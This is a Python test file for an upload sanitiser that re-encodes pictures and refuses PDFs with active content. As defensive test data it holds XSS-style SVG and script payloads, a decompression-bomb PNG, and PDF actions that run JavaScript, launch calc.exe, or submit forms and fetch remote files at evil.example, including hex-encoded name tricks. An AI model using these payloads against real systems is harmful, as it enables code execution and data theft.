"""What people upload: pictures are made anew, documents that act are refused."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import pytest
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from app.accounts.preferences.images import ImageRefusedError, clean_image
from app.accounts.preferences.pdf import PdfRefusedError, check_pdf

SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
SCRIPT = b"<script>alert(document.domain)</script>"


def picture(kind: str = "PNG", size: tuple[int, int] = (600, 300), **options: object) -> bytes:
    """A red picture as a file."""
    made = io.BytesIO()
    Image.new("RGB", size, "#c00").save(made, kind, **options)
    return made.getvalue()


def opened(content: bytes) -> Image.Image:
    return Image.open(io.BytesIO(content))


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
def test_picture_becomes_a_png_that_fits(kind: str) -> None:
    clean = opened(clean_image(picture(kind)))

    assert (clean.format, clean.size) == ("PNG", (320, 160))
    assert clean.getpixel((5, 5))[0] > 200  # type: ignore[index]


def test_small_picture_keeps_its_size() -> None:
    assert opened(clean_image(picture(size=(20, 10)))).size == (20, 10)


def test_words_in_a_picture_are_gone() -> None:
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", "secret place")
    exif = Image.Exif()
    exif[0x010E] = "secret place"

    for content in (
        picture(pnginfo=said),
        picture("JPEG", exif=exif, comment="secret place", icc_profile=b"secret place"),
    ):
        assert b"secret place" in content
        assert b"secret place" not in clean_image(content)


def test_picture_stands_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter

    assert opened(clean_image(picture("JPEG", size=(40, 20), exif=exif))).size == (20, 40)


HOSTILE_PICTURES = [
    (b"", "unreadable"),
    (SVG, "unreadable"),
    (b"<!doctype html>" + SCRIPT, "unreadable"),
    (b"GIF89a/*" + SCRIPT, "unreadable"),
    (picture("GIF"), "unreadable"),
    (picture("TIFF"), "unreadable"),
    (picture() + SCRIPT, "unreadable"),
    (picture("JPEG") + SCRIPT, "unreadable"),
    (picture("WEBP") + SCRIPT, "unreadable"),
    (SCRIPT + picture(), "unreadable"),
    (picture()[:-30], "unreadable"),
    (picture("JPEG")[:-300], "unreadable"),
    (picture("WEBP")[:-30], "unreadable"),
    (picture(size=(5_001, 1)), "too_many_pixels"),
    (picture(size=(4_000, 4_000)), "too_many_pixels"),
]


@pytest.mark.parametrize(("content", "code"), HOSTILE_PICTURES)
def test_anything_else_is_no_picture(content: bytes, code: str) -> None:
    with pytest.raises(ImageRefusedError) as refused:
        clean_image(content)

    assert refused.value.code == code


def huge_png() -> bytes:
    """A few bytes that say they are 10,000 by 10,000 pixels."""
    small = picture(size=(1, 1))
    head = struct.pack(">II", 10_000, 10_000) + small[24:29]
    return small[:16] + head + struct.pack(">I", zlib.crc32(b"IHDR" + head)) + small[33:]


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_bomb_is_refused_before_it_is_decoded() -> None:
    with pytest.raises(ImageRefusedError) as refused:
        clean_image(huge_png())

    assert refused.value.code == "too_many_pixels"


def document(change: Callable[[PdfWriter], object] = lambda _: None) -> bytes:
    """A PDF of one page, with a change."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def name(text: str) -> NameObject:
    return NameObject(f"/{text}")


def action(kind: str, **more: str) -> DictionaryObject:
    fields = {name(key): TextStringObject(value) for key, value in more.items()}
    return DictionaryObject({name("S"): name(kind), **fields})


def opening(kind: str, **more: str) -> Callable[[PdfWriter], object]:
    return lambda writer: writer.root_object.update({name("OpenAction"): action(kind, **more)})


def annotate(writer: PdfWriter) -> None:
    link = DictionaryObject({name("Subtype"): name("Link"), name("A"): action("Launch", F="a.exe")})
    writer.pages[0][name("Annots")] = ArrayObject([writer._add_object(link)])


def hide_in_page(writer: PdfWriter) -> None:
    hidden = DictionaryObject({name("O"): action("JavaScript", JS="app.alert(1)")})
    writer.pages[0][name("AA")] = hidden


def fill_in(writer: PdfWriter) -> None:
    form = DictionaryObject({name("XFA"): TextStringObject("<xdp/>")})
    writer.root_object[name("AcroForm")] = form


@pytest.mark.parametrize(
    "change",
    [
        opening("JavaScript", JS="app.alert(1)"),
        opening("Launch", F="calc.exe"),
        opening("SubmitForm", F="https://evil.example"),
        opening("GoToR", F="//evil.example/share"),
        annotate,
        hide_in_page,
        fill_in,
        lambda writer: writer.add_attachment("invoice.xml", b"<x/>"),
    ],
)
def test_document_that_acts_is_refused(change: Callable[[PdfWriter], object]) -> None:
    with pytest.raises(PdfRefusedError) as refused:
        check_pdf(document(change))

    assert refused.value.code == "acting"


def test_name_written_in_figures_is_read_all_the_same() -> None:
    content = document(opening("JavaScript", JS="app.alert(1)"))

    with pytest.raises(PdfRefusedError) as refused:
        check_pdf(content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS"))

    assert refused.value.code == "acting"


def test_action_in_a_compressed_object_is_found() -> None:
    plain = PdfReader(io.BytesIO(document(opening("JavaScript", JS="app.alert(1)"))))
    writer = PdfWriter(clone_from=plain)
    packed = io.BytesIO()
    writer.write(packed)

    with pytest.raises(PdfRefusedError):
        check_pdf(packed.getvalue())


@pytest.mark.parametrize("change", [lambda _: None, opening("URI", URI="https://maison.example")])
def test_plain_document_is_taken(change: Callable[[PdfWriter], object]) -> None:
    check_pdf(document(change))


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "unreadable"),
        (b"<html>" + document(), "unreadable"),
        (document() + SCRIPT, "unreadable"),
        (document()[:-200], "unreadable"),
        (b"%PDF-1.7\nnothing\n%%EOF", "unreadable"),
        (picture(), "unreadable"),
        (document(lambda writer: writer.encrypt("secret", algorithm="RC4-128")), "locked"),
    ],
)
def test_anything_else_is_no_document(content: bytes, code: str) -> None:
    with pytest.raises(PdfRefusedError) as refused:
        check_pdf(content)

    assert refused.value.code == code


def test_document_without_end_is_refused() -> None:
    def nest(writer: PdfWriter) -> None:
        deep = DictionaryObject()
        writer.root_object[name("Deep")] = deep
        for _ in range(60):
            inner = DictionaryObject()
            deep[name("Deep")] = inner
            deep = inner

    with pytest.raises(PdfRefusedError) as refused:
        check_pdf(document(nest))

    assert refused.value.code == "too_large"
